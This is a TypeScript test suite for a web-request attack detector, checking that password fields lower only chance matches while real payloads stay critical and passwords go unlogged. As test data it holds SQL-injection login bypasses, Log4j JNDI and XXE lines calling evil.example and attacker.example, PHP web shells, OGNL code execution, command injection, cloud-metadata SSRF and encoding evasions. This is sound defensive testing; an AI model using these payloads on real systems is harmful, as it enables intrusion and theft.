import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { Memo } from '../../src/core/memo.ts';
import { compileState, credentialMatcher } from '../../src/detection/compiled.ts';
import { detectionConfigSchema } from '../../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../../src/detection/inspector.ts';
import { loadRuleset } from '../../src/detection/ruleset.ts';
import { runInspection } from '../../src/detection/run.ts';

// Passwords a manager generated that rules read as attacks (a scratch probe of 50,000, 2026-12-07): each was high
// or critical in a `password` field, the user could not log in, and the fragment went into the event log.
const GENERATED = [
  'smZ6y~L0x%N7?g]ELv3-_~', // a backup file name (`…~`)
  'tv&&5;#NV]k!.I@CrV', // SQL to libinjection
  'B19V(&)Q@Xk$z.)N)7v*^', // an LDAP filter
  ')cC+^(#w=[V|fK^~~.9-.n)a', // OGNL
  // These two read as attacks until session 12 narrowed `$x(` to PHP-shaped arguments and `$(word)` to commands
  // attackers run: they stay here for the password-field test, not the one below.
  'l$h({CFUv(FV)=a5', // a PHP variable function
  'kd$(pb)Jh89Db>-', // command substitution
  'Vdt)]#ZeP2!|o[{u:or;nc', // a separator and a command
  'skJSs\'=@xcaTkrl', // a quote, then SQL-ish symbols
];
// What an attacker sends to a login form's password: leaving the literal and saying something (a second review
// found the operator and IS NOT NULL forms lowered), or a tautology after a split (user `\\`).
const BYPASSES = [
  "' OR '1'='1",
  "admin'--",
  "' or 1=1#",
  '") or ("1"="1',
  "'||'1'='1",
  "' and sleep(5)--",
  "'=0#",
  "' =0 -- -",
  "'-0-- -",
  "' IS NOT NULL-- ",
  "')=0#",
  // A sixth review: any run of blanks or parentheses between the quote and the operator.
  "1'         OR '1",
  "'         OR 1=1 OR '",
  "'         AND SLEEP(5) AND '",
  "'\n\n\n\n\n\n\n\n\nOR '1",
  "')))))))))OR '1",
  // A seventh review: `!=` is an operator too.
  "x'!=('1')!='0",
  "x')!=('1')!=('0",
];

const ruleset = loadRuleset();
const config = detectionConfigSchema.parse({});
const inspector = createInspector(config, { ruleset });
after(() => inspector.close());

const RANK: Record<string, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };
/** A POST of `body` as `contentType` to `path`. */
const post = (path: string, contentType: string, body: string): InspectionInput => ({
  method: 'POST',
  path,
  rawQuery: '',
  headers: { host: 'api.example.com', 'content-type': contentType },
  body: Buffer.from(body),
  contentType,
  bodyComplete: true,
});
const json = (body: object): InspectionInput => post('/api/login', 'application/json', JSON.stringify(body));
const form = (body: string): InspectionInput => post('/login', 'application/x-www-form-urlencoded', body);
const top = (i: InspectionInput): number =>
  inspector
    .inspect(i)
    .filter((f) => f.category !== 'protocol')
    .reduce((m, f) => Math.max(m, RANK[f.severity]!), 0);

describe('password fields', () => {
  test('generated passwords are at most low, in every spelling of a password field', () => {
    const placements = [
      (p: string) => json({ username: 'jane@example.com', password: p }),
      (p: string) => json({ user: { newPassword: p, password_confirmation: p } }),
      (p: string) => form(`log=jane&pwd=${encodeURIComponent(p)}`),
      (p: string) => form(`user[email]=jane%40example.com&user[current-password]=${encodeURIComponent(p)}`),
    ];
    const over = GENERATED.flatMap((p) => placements.map((place) => [p, top(place(p))] as const)).filter(
      ([, t]) => t > RANK.low!,
    );
    assert.deepEqual(over, []);
  });

  test('the same strings elsewhere keep their severity', () => {
    const under = GENERATED.filter((_, i) => i !== 4 && i !== 5).filter((p) => top(json({ username: p })) < RANK.high!);
    assert.deepEqual(under, []);
  });

  test('SQL injection that leaves the literal is still high or critical in a password field', () => {
    const under = [...BYPASSES, ' or 1=1-- -'].filter((p) => top(json({ username: 'admin', password: p })) < RANK.high!);
    assert.deepEqual(under, []);
  });

  test('what else a password can carry keeps its severity: NoSQL operators, a Log4j lookup', () => {
    for (const body of [{ password: { $ne: null } }, { password: '${jndi:ldap://attacker.example/a}' }])
      assert.equal(top(json(body)), RANK.critical, JSON.stringify(body));
  });

  test('a field name ending like a password lowers nothing: names are chosen by the sender', () => {
    assert.equal(top(form('__proto__[isAdmin][pass]=1')), RANK.critical);
    assert.equal(top(form('constructor[prototype][isAdmin][pwd]=1')), RANK.critical);
  });

  test('only what a generated password trips by chance is lowered: markup, addresses and traversal are not', () => {
    // A GraphQL variable named `$password` may be bound to any field (a third review's find).
    for (const v of ['<script>alert(1)</script>', 'http://169.254.169.254/latest/meta-data/', '../../../../etc/passwd'])
      assert.equal(top(json({ variables: { password: v } })), RANK.critical, v);
  });

  test('an uploaded file is a file whatever its part is called', () => {
    const part = [
      '--b0',
      'Content-Disposition: form-data; name="files[password]"; filename="a.txt"',
      'Content-Type: text/plain',
      '',
      '<?php system($_GET["c"]); ?>',
      '--b0--',
      '',
    ].join('\r\n');
    assert.equal(top(post('/upload', 'multipart/form-data; boundary=b0', part)), RANK.critical);
  });

  test('a password field cannot be used to blank an attack elsewhere in a SOAP document', () => {
    // A fourth review: blanking the password's text in the whole document deleted `SYSTEM` from a DOCTYPE.
    for (const xml of [
      '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><Login><Password>SYSTEM</Password></Login>',
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Login><Password>ENTITY</Password></Login>',
      // The same code outside the password as inside it (a fifth review).
      '<?php $_GET[0]($_POST[1]);?><L><U>a</U><Password><![CDATA[<?php $_GET[0]($_POST[1]);?>]]></Password></L>',
    ])
      assert.equal(top(post('/soap', 'application/xml', xml)), RANK.critical, xml);
  });

  test('code execution, a UNION SELECT and long values keep their severity in a password field', () => {
    const s2001 = "%{(#_memberAccess['allowStaticMethodAccess']=true)(#a=@java.lang.Runtime@getRuntime().exec('id'))}";
    assert.equal(top(json({ password: s2001 })), RANK.critical);
    assert.ok(top(json({ password: '1 union select 1,2,3' })) >= RANK.high!);
    // No password manager writes 200 characters: padding around a payload is judged in full.
    assert.equal(top(json({ password: `${'a'.repeat(220)} $(HPcF$a>jjhm1B)` })), RANK.critical);
  });

  test('OGNL that reaches a static member or the member-access guard, and named superglobals, keep their severity', () => {
    // A sixth review: unqualified classes resolve through OGNL's java.lang default, so no class rule fires.
    for (const password of [
      '%{@System@getenv()}',
      '%{@Thread@sleep(9000)}',
      "%{(#_memberAccess['allowStaticMethodAccess']=true).(@System@exit(0))}",
      '<?=`$_GET[0]`?>',
    ])
      assert.ok(top(json({ password })) >= RANK.high!, password);
  });

  test('an XML password is judged in full, never recorded: no reading of where it stands survived four reviews', () => {
    // Rounds 6-10 of review each made the scanner, a parser and an application disagree on which text is the
    // password (a processing instruction, Unicode names, a nested record, an empty sibling): lowering went.
    const soap = (password: string): string =>
      '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" ' +
      'xmlns:auth="urn:example:auth"><soap:Header/><soap:Body><auth:Login><auth:Username>jane.doe@example.com' +
      `</auth:Username><auth:Password>${password}</auth:Password></auth:Login></soap:Body></soap:Envelope>`;
    const leaks = (found: readonly { fragment?: string; explanation: string }[], core: string): boolean =>
      found.some((f) => f.fragment?.includes(core) === true || f.explanation.includes(core));
    for (const [xml, core] of [
      [soap('Vq7P;nc'), 'q7P'],
      [soap('$(HPcF$a&gt;jjhm1B)'), 'HPcF'],
      ['<login username="bob" password="$(HPcF$a>jjhm1B)"/>', 'HPcF'],
      ['<login größe="1" password="$(HPcF$a>jjhm1B)"/>', 'HPcF'],
      ['<!DOCTYPE l><login><password>$(HPcF$ajjhm1B)</password></login>', 'HPcF'],
      [`<Envelope><Body><Up><password>$(HPcF$ajjhm1B)</password><file>${'QUJD'.repeat(40_000)}</file></Up></Body></Envelope>`, 'HPcF'],
    ] as const) {
      const found = inspector.inspect(post('/soap', 'text/xml', xml));
      assert.ok(!leaks(found, core), `${xml.slice(0, 60)}: ${JSON.stringify(found)}`);
    }
    // Past the values read, a password may be anywhere: the whole document is not recorded either (a tenth review).
    const many = `<r>${'<v>1</v>'.repeat(1100)}<password>$(HPcF$ajjhm1B)</password></r>`;
    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', many)), 'HPcF'));
    // 65 levels deep a password keeps its own name in its path; a SOAP login sent as text/plain is read as XML.
    const deepPw = `${'<w>'.repeat(70)}<password>Xy' OR 1=1--Secret9</password>${'</w>'.repeat(70)}`;
    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', deepPw)), 'Secret9'));
    const plain = `<?xml version="1.0"?><Envelope><Body><Login><User>a</User><Password>Xy' OR 1=1--Secret9</Password></Login></Body></Envelope>`;
    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/plain', plain)), 'Secret9'));
    // A short password redacts no other value that merely contains its text (a twelfth review: '<pass>a</pass>'
    // hid every payload), and many passwords cost nothing quadratic.
    const decoy = inspector.inspect(post('/soap', 'text/xml', '<x><pass>a</pass><q>${jndi:ldap://evil.example/a}</q></x>'));
    assert.ok(decoy.some((f) => f.location === 'body.x.q' && f.fragment?.includes('jndi') === true), JSON.stringify(decoy));
    const passwords = `<r>${'<password>ab</password>'.repeat(700)}${'<a>x'.repeat(60)}${'a'.repeat(60_000)}${'</a>'.repeat(60)}</r>`;
    const t0 = process.hrtime.bigint();
    inspector.inspect(post('/soap', 'text/xml', passwords));
    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 2000);
    // Nor through a mixed-content parent that holds it.
    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', '<Login>user jane<Password>$(HPcF$ajjhm1B)</Password></Login>')), 'HPcF'));
    // A data: URL in an XML password is not decoded into a copy that could be recorded.
    const data = '<login><user>bob</user><password>data:;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==</password></login>';
    assert.ok(!leaks(inspector.inspect(post('/soap', 'text/xml', data)), '<?php'));
  });

  test('XML attacks around or inside a password-named element keep their severity (reviews 7-10)', () => {
    const deep = '<w>'.repeat(62) + '<password><host><z></z>127.0.0.1;id</host></password>' + '</w>'.repeat(62);
    for (const xml of [
      '<r><host><?pi x><password>?>127.0.0.1;id</host></r>',
      deep,
      '<r><password>1<2</password><host>127.0.0.1;id</host></r>',
      '<r><host><password ü=">"/>127.0.0.1;id<password ü="/>"></password></host></r>',
      '<r><host><password>127.0.0.1;id</password></host></r>',
      '<s:Envelope xmlns:s="x"><s:Body><exec><command><password>;id</password><z/></command></exec></s:Body></s:Envelope>',
      '<s:Envelope xmlns:s="x"><s:Body><Login><user>a</user><password>pw</password></Login><Login>x<password>;i<!---->d</password></Login></s:Body></s:Envelope>',
    ])
      assert.equal(top(post('/soap', 'text/xml', xml)), RANK.critical, xml.slice(0, 70));
    // Text split by a comment or CDATA is one value, as parsers join it; numeric references with any zeros decode.
    assert.equal(top(post('/x', 'application/xml', '<r><host>127.0.0.1;<![CDATA[id]]></host></r>')), RANK.critical);
    assert.equal(top(post('/x', 'application/xml', '<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>')), RANK.critical);
    assert.equal(top(post('/x', 'application/xml', '<r><host>;&#00000000000105;d</host></r>')), RANK.critical);
    // UTF-32 without a declaration or BOM: libxml2 knows it by its first bytes.
    const utf32 = Buffer.from(
      Array.from("<r><q>1' UNION SELECT password FROM users--</q></r>").flatMap((c) => [c.charCodeAt(0), 0, 0, 0]),
    );
    const found32 = inspector.inspect({ ...post('/x', 'application/xml', ''), body: utf32 });
    assert.ok(found32.some((f) => f.ruleId === 'protocol.xml-encoding'), JSON.stringify(found32));
    // An encoding this reading cannot follow hides the whole document, padded or not, whatever the Content-Type.
    for (const [type, xml] of [
      ['application/xml', '<?xml version="1.0" encoding="UTF-7"?><r><host>127.0.0.1+ADs-id</host></r>'],
      ['application/xml', `<?xml version="1.0"${' '.repeat(300)}encoding${' '.repeat(20)}="UTF-7"?><r>+ADsAaQBk-</r>`],
      ['text/plain', '<?xml version="1.0" encoding="utf-7"?><r>+ADsAaQBk-</r>'],
      // 7-bit encodings whose escapes a parser drops (an eleventh review: ISO-2022-JP hid an XXE).
      ['application/xml', `<?xml version="1.0" encoding="ISO-2022-JP"?>${'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'.split('').join('\x1b(B')}`],
      ['application/xml', '<?xml version="1.0" encoding="HZ-GB-2312"?><r>x</r>'],
    ]) {
      const found = inspector.inspect(post('/x', type!, xml!));
      assert.ok(found.some((f) => f.ruleId === 'protocol.xml-encoding' && f.severity === 'critical'), `${type} ${JSON.stringify(found)}`);
    }
  });

  test('field names past 128 characters are judged but not kept (1,024 body-sized keys held 160 MB)', () => {
    const memo = new Memo<boolean>(1024);
    const isCredential = credentialMatcher(config.credentialFields, memo);
    assert.equal(isCredential(`${'k'.repeat(120_000)}.password`), true);
    assert.equal(memo.size, 0);
    assert.equal(isCredential('user.password'), true);
    assert.equal(memo.size, 1);
  });

  test('a password that starts like a data: URL is not decoded into a copy', () => {
    const state = compileState(ruleset, config, []);
    runInspection(state, json({ password: 'data:,CorrectHorseBattery9' }));
    assert.ok(![...state.clean.keys()].some((k) => typeof k === 'string' && k.includes('CorrectHorse')));
  });

  test('JSF and ASP.NET password fields are password fields', () => {
    for (const name of ['loginForm:password', 'ctl00$Main$Password'])
      assert.ok(top(form(`user=jane&${encodeURIComponent(name)}=${encodeURIComponent(GENERATED[5]!)}`)) <= RANK.low!, name);
  });

  test('a whole-form copy is inspected with password values blanked: nothing lowered leaks through it', () => {
    // `remember me` (a space in a name) makes the form odd, so the inspector also reads it whole.
    const found = inspector.inspect(form(`email=j%40x.io&password=${encodeURIComponent(GENERATED[5]!)}&remember+me=1`));
    assert.ok(!found.some((f) => f.fragment?.includes('HPcF') || f.explanation.includes('HPcF')), JSON.stringify(found));
    assert.ok(found.every((f) => RANK[f.severity]! <= RANK.low!), JSON.stringify(found));
    const state = compileState(ruleset, config, []);
    runInspection(state, form('email=j%40x.io&password=Secr3tPlainPw&remember+me=1'));
    assert.ok(![...state.clean.keys()].some((k) => typeof k === 'string' && k.includes('Secr3tPlainPw')));
  });

  test('no fragment of a password is recorded, and the clean-value cache keeps only hashes of it', () => {
    let seen = 0;
    for (const p of [...GENERATED, ...BYPASSES]) {
      for (const f of inspector.inspect(json({ password: p }))) {
        if (f.location !== 'body.password') continue;
        seen++;
        assert.equal(f.fragment, '‹a password field: not recorded›');
        assert.ok(!f.explanation.includes(p), JSON.stringify(f));
      }
    }
    assert.ok(seen >= GENERATED.length, 'the findings are still recorded');
    const state = compileState(ruleset, config, []);
    runInspection(state, json({ username: 'jane', password: 'Tr0ub4dor&3-horse' }));
    const keys = [...state.clean.keys()];
    assert.ok(!keys.some((k) => typeof k === 'string' && k.includes('Tr0ub4dor')), 'no password text');
    assert.ok(keys.includes('jane'), 'other values are cached as text');
  });

  test('credentialFields: [] inspects password fields like any other', () => {
    const plain = createInspector(detectionConfigSchema.parse({ credentialFields: [] }), { ruleset });
    try {
      const t = plain
        .inspect(json({ password: GENERATED[6]! }))
        .reduce((m, f) => Math.max(m, RANK[f.severity]!), 0);
      assert.equal(t, RANK.critical);
    } finally {
      plain.close();
    }
  });
});
